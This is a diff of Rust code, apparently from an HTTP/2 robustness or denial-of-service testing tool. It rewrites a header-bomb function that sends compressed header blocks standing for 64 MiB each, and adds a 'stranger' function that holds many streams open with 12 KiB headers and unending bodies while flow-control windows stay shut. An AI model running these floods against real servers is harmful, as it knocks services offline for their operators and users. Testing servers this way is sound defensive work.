@@ -99,27 +99,32 @@ pub(crate) async fn unread_answers(target: &Target, count: usize) -> Result<Outc
     Ok(Outcome { sent, ended: false })
 }
 
-/// Header blocks of 16 KiB that stand for 64 MiB each: one long header, and references to it. Nothing that is answered is
-/// taken, and the connection stays.
+/// Header blocks of 16 KiB that stand for 64 MiB each: one long header, and references to it. The same again and again, with windows
+/// in which no answer fits, and the connection stays.
 pub(crate) async fn header_bomb(target: &Target, blocks: usize) -> Result<(Wire, Outcome)> {
     let header = remembered("x-long", &"x".repeat(4000));
     let start = [request("GET", target.path, &[]), header].concat();
     let block = [&start[..], &vec![THE_LAST; LARGEST - start.len()]].concat();
-    requests_in_vain(target, blocks, &block).await
+    let mut wire = target.http2(Some((INITIAL_WINDOW_SIZE, 0))).await?;
+    let mut sent = 0;
+    for _ in 0..blocks {
+        let stream = wire.stream();
+        if !wire.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)).await {
+            break;
+        }
+        sent += 1;
+    }
+    let ended = wire.has_ended();
+    Ok((wire, Outcome { sent, ended }))
 }
 
 /// Requests whose answers are not taken: windows are shut, and stay so.
 pub(crate) async fn shut_windows(target: &Target, streams: usize) -> Result<(Wire, Outcome)> {
-    requests_in_vain(target, streams, &request("GET", target.path, &[])).await
-}
-
-/// The same request again and again, with windows in which no answer fits.
-async fn requests_in_vain(target: &Target, count: usize, block: &[u8]) -> Result<(Wire, Outcome)> {
     let mut wire = target.http2(Some((INITIAL_WINDOW_SIZE, 0))).await?;
     let mut sent = 0;
-    for _ in 0..count {
+    for _ in 0..streams {
         let stream = wire.stream();
-        if !wire.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, block)).await {
+        if !wire.send(&target.question(stream)).await {
             break;
         }
         sent += 1;
@@ -152,5 +157,24 @@ pub(crate) async fn held_headers(target: &Target, streams: usize) -> Result<(Wir
         sent += 1;
     }
     let ended = wire.ends().await;
+    Ok((wire, Outcome { sent, ended }))
+}
+
+/// What a stranger can hold at the pages: as many header lists of 12 KiB as there may be streams, each with a body that does not end,
+/// and answers that are not taken.
+pub(crate) async fn stranger(target: &Target, streams: usize, body: usize) -> Result<(Wire, Outcome)> {
+    let mut wire = target.http2(Some((INITIAL_WINDOW_SIZE, 0))).await?;
+    let (long, length) = ("x".repeat(12_000), "60000");
+    let more = [("content-type", "application/json"), ("content-length", length), ("x-long", &long)];
+    let line = request("POST", target.path, &more);
+    let mut sent = 0;
+    for _ in 0..streams {
+        let stream = wire.stream();
+        if !wire.send(&frame(HEADERS, END_HEADERS, stream, &line)).await || !wire.body(stream, body).await {
+            break;
+        }
+        sent += 1;
+    }
+    let ended = wire.has_ended();
     Ok((wire, Outcome { sent, ended }))
 }
